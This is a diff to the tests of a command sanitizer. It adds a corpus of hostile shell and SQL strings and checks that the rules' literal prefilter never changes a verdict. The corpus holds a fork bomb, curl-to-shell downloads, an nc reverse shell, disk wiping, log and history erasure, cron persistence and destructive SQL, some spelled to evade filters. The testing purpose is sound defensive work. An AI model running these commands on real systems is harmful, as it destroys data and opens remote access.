@@ -345,6 +345,73 @@ def test_table_sizes_meet_the_issue():
     assert all(len(commands) >= 5 for commands in BYPASS_CLASSES.values())
 
 
+# Every rule searched only when its literals are there, met in odd cases and spellings: SQL in
+# mixed case and with the letters that case-fold apart (U+0130, U+0131), comments that join a
+# keyword, and each shell rule's own form.
+PREFILTER_CORPUS = [
+    *ATTACKS,
+    *LEGITIMATE,
+    *(command for commands in BYPASS_CLASSES.values() for command in commands),
+    ":(){ :|:& };:",
+    "bomb(){ bomb|bomb& }; bomb",
+    "curl -s http://x/i.sh | sudo -u app bash",
+    "wget -qO- http://x | python3 -",
+    "sh /dev/stdin < x.sh",
+    "bash <(curl -s http://x)",
+    "echo $(wget -qO- http://x)",
+    "`id`",
+    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+    "dd if=/dev/zero of=/dev/sdb bs=1M",
+    "unset HISTFILE; history -c",
+    "export HISTSIZE=0",
+    "> /var/log/wtmp",
+    "echo ${!name}",
+    "awk 'BEGIN { system(\"id\") }'",
+    "echo '* * * * * id' | crontab -",
+    "psql -c 'DrOp TaBlE users'",
+    "psql -c 'dr/**/op table users'",
+    "mysql -e 'TRUNCATE TABLE t'",
+    "mysql -e 'delete from t;'",
+    "mysql -e 'update t set a=1 where 1=1;'",
+    "mysql -e 'UPDATE t SET a = 1'",
+    "mysql -e 'select 1 \u0130nto outfile \"/tmp/x\"'",
+    "mysql -e 'select 1 \u0131nto dumpfile \"/tmp/x\"'",
+    "sqlcmd -Q \"EXEC xp_cmdshell 'dir'\"",
+    "psql -c \"COPY t TO PROGRAM 'id'\"",
+    "sqlplus x <<< 'EXECUTE IMMEDIATE v'",
+]
+
+
+def _verdict(command: str) -> tuple[str, str] | None:
+    try:
+        sanitizer._judge_text(command)
+    except errors.SecurityViolation as exc:
+        return exc.reason, exc.pattern
+    return None
+
+
+def test_the_rules_literals_never_change_a_verdict(monkeypatch):
+    # The literals only decide whether a rule's expression is searched: with every rule searched
+    # in every text, each command of every table gets the same verdict, reason and match.
+    filtered = {command: _verdict(command) for command in PREFILTER_CORPUS}
+    monkeypatch.setattr(sanitizer, "_NEEDS", {})
+    assert {command: _verdict(command) for command in PREFILTER_CORPUS} == filtered
+    assert sum(verdict is not None for verdict in filtered.values()) > len(ATTACKS)
+
+
+def test_every_rule_with_literals_is_met_by_the_corpus():
+    # So a wrong literal shows above: each such rule matches some command of the corpus.
+    views = [
+        view
+        for command in PREFILTER_CORPUS
+        for text in [sanitizer.normalise(command)]
+        for view in (text, sanitizer.sql_view(command), sanitizer.sql_view(text))
+    ]
+    assert len(sanitizer._NEEDS) >= 20
+    for pattern in sanitizer._NEEDS:
+        assert any(pattern.search(view) for view in views), pattern.pattern
+
+
 @pytest.mark.parametrize(
     ("raw", "normal"),
     [
